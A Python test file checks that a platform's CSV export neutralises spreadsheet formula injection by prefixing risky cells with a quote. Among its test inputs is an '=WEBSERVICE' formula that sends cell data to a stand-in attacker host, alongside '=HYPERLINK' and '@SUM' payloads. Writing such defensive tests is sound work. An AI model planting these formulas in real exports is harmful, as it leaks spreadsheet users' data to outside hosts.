"""Every CSV the platform writes neutralises cells a spreadsheet would run as a formula (finding 9
of the outside security test: an anonymous search for ``=WEBSERVICE(...)`` landed in the
zero-results CSV as a formula)."""
from __future__ import annotations

import csv
import io

import pytest

from services.chassis.csvfile import csv_text
from services.gateway.reports import as_csv


@pytest.mark.parametrize("text", ['=WEBSERVICE("http://evil.example/?"&A1)', "+1+1", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_a_formula_is_written_as_text(text):
    cell = next(csv.reader(io.StringIO(csv_text([[text]]))))[0]
    assert cell == "'" + text


@pytest.mark.parametrize("value, written", [(-3, "-3"), (12, "12"), (1.5, "1.5"), ("heftruck", "heftruck"),
                                            (None, ""), (True, "true"),
                                            ("-", "-"), ("-12", "-12"), ("+31", "+31")])
def test_numbers_and_words_stay_as_they_are(value, written):
    assert next(csv.reader(io.StringIO(csv_text([[value]]))))[0] == written


def test_the_reports_csv_is_made_safe(attack):
    report = {"columns": ["query", "searches"], "rows": [{"query": "=HYPERLINK(\"x\")", "searches": 7}]}
    rows = list(csv.reader(io.StringIO(as_csv(report))))
    assert rows[1] == ["'=HYPERLINK(\"x\")", "7", "false"]
    attack(name="9. formula injection in CSV", tried="a report cell =HYPERLINK(...)", held="written as text ('=...)")
